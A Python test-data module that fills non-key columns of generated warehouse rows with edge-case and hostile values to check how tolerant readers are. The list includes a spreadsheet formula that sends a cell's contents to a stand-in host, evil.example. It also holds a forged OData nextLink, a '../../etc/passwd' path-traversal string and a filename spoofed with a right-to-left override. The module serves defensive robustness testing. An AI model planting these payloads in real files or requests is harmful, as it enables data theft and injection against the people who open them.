"""Values that break careless readers, laid over generated rows in hostile mode.

Only columns that nothing joins to are touched: keys, references and referenced columns stay true.
"""

from __future__ import annotations

from functools import cache
from typing import TYPE_CHECKING, Any

from intune_dw_cli.reference import reference

if TYPE_CHECKING:
    from collections.abc import Sequence

    from intune_dw_cli.reference import ReferenceCollection, ReferenceProperty
    from intune_dw_cli.sandbox.generate.source import Record

TEXTS: tuple[str | None, ...] = (
    'say "hi"',
    '"',
    '""',
    "'single'",
    "line\r\nbreak",
    "line\nbreak",
    "carriage\rreturn",
    "tab\there",
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "@SUM(A1:A9)",
    "+1+1",
    "-1+1",
    "00042",
    "1234567890123456789",
    "1e5",
    "\u202egnp.exe",
    "\u0645\u0631\u062d\u0628\u0627",
    "\U0001f4bb laptop \U0001f469\u200d\U0001f4bb",
    "line\u2028separator\u2029end",
    "NUL\x00inside",
    "\x01\x1f\x7f control",
    "},{",
    '},{"dateKey":1',
    '"}],"@odata.nextLink":"https://evil.example/"',
    "back\\slash\\\\",
    "\\",
    "\\u0041",
    "../../etc/passwd",
    "CON",
    "a,b;c|d",
    "  blanks  ",
    "\ufeffbom",
    "e\u0301 \u00e9",
    "null",
    "N/A",
    "true",
    "2024-01-15T00:00:00Z",
    "x" * 4000,
    "\u00e4\u4e16\U0001f600" * 1333 + "!",
    "",
    None,
)
INT64S: tuple[int, ...] = (2**53 + 1, -(2**53) - 1, 2**63 - 1, -(2**63), 2**53, 0)
MOMENTS: tuple[str, ...] = (
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.9999999Z",
    "9999-12-31T00:00:00Z",
    "2024-02-29T23:59:59Z",
    "2024-02-29T23:59:59.1Z",
    "2024-02-29T23:59:59.12Z",
    "2024-02-29T23:59:59.123Z",
    "2024-02-29T23:59:59.1234Z",
    "2024-02-29T23:59:59.12345Z",
    "2024-02-29T23:59:59.123456Z",
    "2024-02-29T23:59:59.1234567Z",
    "2024-03-31T02:30:00+02:00",
    "2023-11-05T01:30:00.5-05:30",
    "2024-01-01T00:00:00+00:00",
    "0001-01-01T00:00:00+14:00",
)

_VALUES: dict[str, Sequence[Any]] = {
    "Edm.String": TEXTS,
    "Edm.Int64": INT64S,
    "Edm.DateTimeOffset": MOMENTS,
}


def disturb(collection: str, number: int, record: Record) -> Record:
    """Return the record with hostile values in most of its free columns, chosen by the row's number."""
    disturbed = dict(record)
    for place, prop in enumerate(_free_properties(collection)):
        if prop.name not in record:
            continue
        values = _VALUES[prop.type]
        # One row in five or so keeps its own value, so that hostile and ordinary values meet in one column.
        choice = (number + place * 7) % (len(values) + len(values) // 5 + 1)
        if choice < len(values):
            disturbed[prop.name] = values[choice]
    return disturbed


@cache
def _free_properties(name: str) -> tuple[ReferenceProperty, ...]:
    collection = reference()[name.casefold()]
    return tuple(prop for prop in collection.properties if _is_free(collection, prop))


def _is_free(collection: ReferenceCollection, prop: ReferenceProperty) -> bool:
    joined = f"{collection.name}.{prop.name}" in _referenced()
    return prop.type in _VALUES and prop.name not in collection.key and prop.references is None and not joined


@cache
def _referenced() -> frozenset[str]:
    return frozenset(
        prop.references for collection in reference().values() for prop in collection.properties if prop.references
    )
